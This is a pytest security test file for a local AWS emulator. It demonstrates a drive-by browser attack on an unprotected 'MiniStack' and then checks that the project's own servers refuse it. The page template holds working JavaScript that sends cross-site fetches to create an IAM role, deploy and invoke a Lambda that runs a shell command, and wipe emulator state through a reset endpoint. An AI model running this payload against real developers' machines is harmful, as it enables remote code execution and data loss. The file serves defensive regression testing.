"""A web page that is open on the developer's machine can neither run nor erase nor read anything of the local AWS.

First the attack, in a real browser, on MiniStack as it is published, where it works; then the same on ours, where
nothing comes of it; then each part of the door by itself, with requests in which everything else is right.
"""

import base64
import hashlib
import http.client
import http.server
import io
import json
import stat
import threading
import time
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import urlsplit

import pytest
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

from local import credentials
from local.deploy import client
from local.engine import process as engine
from local.engine.lambda_worker.runtime_client import API
from local.sagemaker import servers as sagemaker
from tests.browser.browser import opened
from tests.unit.local.keys import KEY
from tests.workflow.engine_bench import published

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
LIST_ROLES = b"Action=ListRoles&Version=2010-05-08"
TRUST = json.dumps({"Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}}]})


# ---- the attack ----------------------------------------------------------------------------------

PAGE = """<!doctype html><pre id="result"></pre><img src="/wait"><script>
const {base, keys, steps} = %s;
const signed = (key, service) => `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${key}%%2F20261128%%2F` +
    `us-east-1%%2F${service}%%2Faws4_request&X-Amz-Date=20261128T000000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=0`;
(async () => {
    const said = [];
    for (const key of keys) for (const {path, service, form, text} of steps) {
        const body = form ? new URLSearchParams(form) : text;
        try {
            await fetch(`${base}${path}?${signed(key, service)}`, {method: "POST", mode: "no-cors", body});
        } catch (error) { said.push(String(error)); }
    }
    try {
        const roles = await fetch(`${base}/?Action=ListRoles&Version=2010-05-08&${signed(keys[0], "iam")}`);
        said.push((await roles.text()).includes("evil") ? "read" : "refused");
    } catch (error) { said.push("not read"); }
    document.getElementById("result").textContent = said.join("; ");
    await fetch("/done", {method: "POST"});
})();
</script>"""


def steps(mark: Path) -> list[dict[str, Any]]:
    """Make a role and a function, and run it: it leaves a file where the attacker said."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as packed:
        bootstrap = zipfile.ZipInfo("bootstrap")
        bootstrap.external_attr = (stat.S_IFREG | 0o755) << 16
        packed.writestr(bootstrap, f"#!/bin/sh\ntouch {mark}\n")
    function = {
        "FunctionName": "evil",
        "Role": "arn:aws:iam::000000000000:role/evil",
        "Runtime": "provided.al2023",
        "Handler": "x",
        "Code": {"ZipFile": base64.b64encode(stream.getvalue()).decode()},
    }
    role = {"Action": "CreateRole", "Version": "2010-05-08", "RoleName": "evil", "AssumeRolePolicyDocument": TRUST}
    functions = "/2015-03-31/functions"
    return [
        {"path": "/", "service": "iam", "form": role},
        {"path": functions, "service": "lambda", "text": json.dumps(function)},
        {"path": f"{functions}/evil/invocations", "service": "lambda", "text": "{}"},
    ]


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves the page, and holds one picture of it back until the page's script is done: the browser waits for it."""

    page: ClassVar[str]
    done: ClassVar[threading.Event]

    def do_GET(self) -> None:
        if self.path == "/wait":
            self.done.wait(60)
        self._answer(self.page.encode() if self.path == "/" else b"")

    def do_POST(self) -> None:
        self.done.set()
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None: ...


def attack(base: str, keys: list[str], todo: list[dict[str, Any]]) -> str:
    """Open the attacker's page, of another site than the local AWS, and return what it could see."""
    page = PAGE % json.dumps({"base": base, "keys": keys, "steps": todo})
    handler = type("Page", (Attacker,), {"page": page, "done": threading.Event()})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            return opened(f"http://localhost:{server.server_address[1]}/")
        finally:
            server.shutdown()


RESET = [{"path": "/_ministack/reset", "service": "s3", "text": ""}]


def test_a_page_takes_over_what_has_no_door(tmp_path: Path) -> None:
    """MiniStack as it is published: the page's function runs on this machine, and one more request erases all."""
    mark = tmp_path / "mark"
    with published(tmp_path / "state") as (bench, _):
        bench.client("s3").create_bucket(Bucket="mine")

        said = attack(bench.url, [KEY.access_key_id], steps(mark))
        ran = eventually_exists(mark)
        roles = [role["RoleName"] for role in bench.client("iam").list_roles()["Roles"]]
        attack(bench.url, [KEY.access_key_id], RESET)

        assert said == "read"
        assert roles == ["evil"]
        assert ran
        assert bench.client("s3").list_buckets()["Buckets"] == []


def eventually_exists(path: Path, patience_seconds: float = 10.0) -> bool:
    deadline = time.monotonic() + patience_seconds
    while not path.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    return path.exists()


# ---- ours ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Servers:
    """The three servers of a state folder, without an application."""

    directory: Path
    urls: Mapping[str, str]

    def environment(self) -> dict[str, str]:
        root = credentials.of(self.directory)
        return {
            "AWS_ACCESS_KEY_ID": root.access_key_id,
            "AWS_SECRET_ACCESS_KEY": root.secret_access_key,
            "AWS_REGION": "us-east-1",
            "AWS_ENDPOINT_URL": self.urls["engine"],
        }

    def client(self, service: str) -> Any:
        return client(service, self.environment())


@contextmanager
def running(directory: Path) -> Iterator[Servers]:
    launched = sagemaker.control(directory).launch()
    try:
        runtime = sagemaker.runtime(directory).launch().ready()
        urls = {"engine": engine.server(directory).launch().ready(), "runtime": runtime}
        yield Servers(directory, {**urls, "control": launched.ready()})
    finally:
        sagemaker.control(directory).stop()
        engine.server(directory).stop()
        sagemaker.runtime(directory).stop()


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    with running(tmp_path_factory.mktemp("door") / "state") as started:
        started.client("s3").create_bucket(Bucket="mine")
        yield started


def test_a_page_can_do_nothing_here(servers: Servers, tmp_path: Path) -> None:
    """Not with keys that MiniStack takes for the root user, nor with the right one, whose secret it does not know."""
    mark = tmp_path / "mark"
    keys = [credentials.of(servers.directory).access_key_id, "local", "test", "000000000000"]

    said = attack(servers.urls["engine"], keys, [*steps(mark), *RESET])

    assert said == "not read"
    assert servers.client("iam").list_roles()["Roles"] == []
    assert servers.client("lambda").list_functions()["Functions"] == []
    assert [bucket["Name"] for bucket in servers.client("s3").list_buckets()["Buckets"]] == ["mine"]
    assert not mark.exists()


# ---- each part of the door -----------------------------------------------------------------------


# Method, path, body and headers.
Request = tuple[str, str, bytes, Mapping[str, str]]


@dataclass(frozen=True)
class Answer:
    status: int
    headers: Mapping[str, str]
    body: str


def ask(
    url: str, request: Request, key: credentials.Credentials | None = None, *, host: str = "127.0.0.1:PORT"
) -> Answer:
    """Send a request, signed with a key if there is one, under the host that the signature covers."""
    port = urlsplit(url).port
    method, path, body, headers = request
    sent = {**headers, "Host": host.replace("PORT", str(port))}
    if key is not None:
        signed = AWSRequest(method, f"http://{sent['Host']}{path}", sent, body)
        SigV4Auth(Credentials(key.access_key_id, key.secret_access_key), "iam", "us-east-1").add_auth(signed)
        sent = dict(signed.headers.items())
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.request(method, path, body, sent)
    answer = connection.getresponse()
    lower = {name.lower(): value for name, value in answer.getheaders()}
    return Answer(answer.status, lower, answer.read().decode(errors="replace"))


REQUESTS: Mapping[str, Request] = {
    "engine": ("POST", "/", LIST_ROLES, FORM),
    "control": (
        "POST", "/", b"{}", {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": "SageMaker.ListModels"},
    ),
    "runtime": ("POST", "/endpoints/nobody/invocations", b"x", {"Content-Type": "image/jpeg"}),
}  # fmt: skip
# What a well signed request is answered with: the endpoint `nobody` is not there, which only who came in is told.
GOOD = {"engine": 200, "control": 200, "runtime": 400}
EACH = pytest.mark.parametrize("name", REQUESTS)


@EACH
def test_who_signs_with_the_folders_key_comes_in(servers: Servers, name: str) -> None:
    """And the answer has no header that would let a page read it."""
    answer = ask(servers.urls[name], REQUESTS[name], credentials.of(servers.directory))

    assert answer.status == GOOD[name]
    assert not [header for header in answer.headers if header.startswith("access-control-")]


@EACH
@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://localhost:3000"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "same-origin"},
    ],
    ids=str,
)
def test_what_a_page_sends_is_refused_though_it_is_well_signed(
    servers: Servers, name: str, headers: Mapping[str, str]
) -> None:
    """By the headers that a browser sets and a page cannot leave out."""
    method, path, body, own = REQUESTS[name]

    answer = ask(servers.urls[name], (method, path, body, {**own, **headers}), credentials.of(servers.directory))

    assert answer.status == 403
    assert "Web pages may not use the local AWS" in answer.body


@EACH
@pytest.mark.parametrize("host", ["evil.example:PORT", "evil.example", "127.0.0.1", "127.0.0.1.evil.example:PORT"])
def test_another_host_is_refused_though_it_is_well_signed(servers: Servers, name: str, host: str) -> None:
    """A page whose own name was pointed at 127.0.0.1 is of the same origin, and still says its name."""
    answer = ask(servers.urls[name], REQUESTS[name], credentials.of(servers.directory), host=host)

    assert answer.status == 403
    assert "127.0.0.1 and localhost only" in answer.body


@EACH
@pytest.mark.parametrize("key", ["none", "local", "test", "000000000000", "another secret"])
def test_who_does_not_know_the_secret_is_refused(servers: Servers, name: str, key: str) -> None:
    """Without a signature, with the keys of before, with those that MiniStack never checks, with the secret guessed."""
    root = credentials.of(servers.directory)
    keys = {"none": None, "another secret": credentials.Credentials(root.access_key_id, "guessed")}

    answer = ask(servers.urls[name], REQUESTS[name], keys.get(key, credentials.Credentials(key, key)))

    assert answer.status == 403
    assert "vehiclevision env" in answer.body


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/_ministack/reset"),
        ("POST", "/_ministack/config"),
        ("GET", "/_ministack/sqs/messages"),
        ("GET", "/_ministack/lambda-code/evil"),
        ("GET", "/_localstack/health"),
        ("GET", "/health"),
        ("POST", "/_ministack/health"),
    ],
)
def test_the_engines_own_management_is_closed_to_everybody(servers: Servers, method: str, path: str) -> None:
    """Even to who signs; what is there stays."""
    answer = ask(servers.urls["engine"], (method, path, b"", FORM), credentials.of(servers.directory))

    assert answer.status == 403
    assert [bucket["Name"] for bucket in servers.client("s3").list_buckets()["Buckets"]] == ["mine"]


@EACH
def test_no_preflight_is_answered(servers: Servers, name: str) -> None:
    """So a browser never sends a page's own headers, of which a signature is one."""
    asked = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}

    answer = ask(servers.urls[name], ("OPTIONS", "/", b"", asked))

    assert answer.status == 403
    assert not [header for header in answer.headers if header.startswith("access-control-")]


def test_captures_are_not_flushed_for_strangers(servers: Servers) -> None:
    """The runtime's own path asks for the secret, too."""
    assert ask(servers.urls["runtime"], ("POST", "/flush-captured-data", b"", {})).status == 403


def test_the_key_of_a_function_cannot_be_guessed(servers: Servers) -> None:
    """MiniStack makes it from names that a template says."""
    function, role = "arn:aws:lambda:us-east-1:000000000000:function:f", "arn:aws:iam::000000000000:role/r"
    digest = hashlib.sha256(f"{function}:{role}".encode()).hexdigest()
    secret = hashlib.sha256(f"secret:{digest}".encode()).hexdigest()
    guessed = credentials.Credentials(f"ASIA{digest[:16].upper()}", secret)

    for name, request in REQUESTS.items():
        assert ask(servers.urls[name], request, guessed).status == 403


def test_a_workers_port_gives_no_work_to_strangers(servers: Servers) -> None:
    """Lambda's runtime API listens on a port of its own for each worker."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as packed:
        packed.writestr("app.py", "import os\ndef handler(event, context): return os.environ['AWS_LAMBDA_RUNTIME_API']")
        packed.write(Path(engine.WORKER).with_name("bootstrap"), "bootstrap")
    servers.client("iam").create_role(RoleName="honest", AssumeRolePolicyDocument=TRUST)
    functions = servers.client("lambda")
    functions.create_function(
        FunctionName="honest",
        Role="arn:aws:iam::000000000000:role/honest",
        Runtime="provided.al2023",
        Handler="app.handler",
        Code={"ZipFile": stream.getvalue()},
    )
    try:
        address = json.loads(functions.invoke(FunctionName="honest")["Payload"].read())
        connection = http.client.HTTPConnection(address, timeout=10)
        connection.request("GET", f"{API}/invocation/next")

        assert connection.getresponse().status == 403
        assert json.loads(functions.invoke(FunctionName="honest")["Payload"].read()) == address
    finally:
        functions.delete_function(FunctionName="honest")
        servers.client("iam").delete_role(RoleName="honest")


# ---- what lies in the folder ---------------------------------------------------------------------


def test_nobody_else_may_look_into_the_folder(servers: Servers) -> None:
    """Whatever the person's umask: every folder is shut, and so is every file but a function's own program."""
    servers.client("s3").put_object(Bucket="mine", Key="photo.jpg", Body=b"a rider's face")
    time.sleep(3)

    paths = [servers.directory, *servers.directory.rglob("*")]
    open_to_others = [path for path in paths if path.lstat().st_mode & 0o077 and path.name != "bootstrap"]

    assert open_to_others == []
    assert any(path.name.startswith("photo") for path in paths)


def test_a_folder_that_was_open_is_shut(tmp_path: Path) -> None:
    """As releases before left it; only for its owner's sake, so what may be run still may be."""
    folder = tmp_path / "state"
    (folder / "inner").mkdir(parents=True)
    for path, mode in ((folder, 0o755), (folder / "inner", 0o755)):
        path.chmod(mode)
    (folder / "inner" / "photo").touch(0o644)

    root = credentials.of(folder)

    assert credentials.of(folder) == root
    modes = {path.name: path.stat().st_mode & 0o777 for path in folder.rglob("*")}
    assert modes == {"inner": 0o700, "photo": 0o600, "credentials.json": 0o600}
    assert folder.stat().st_mode & 0o777 == 0o700
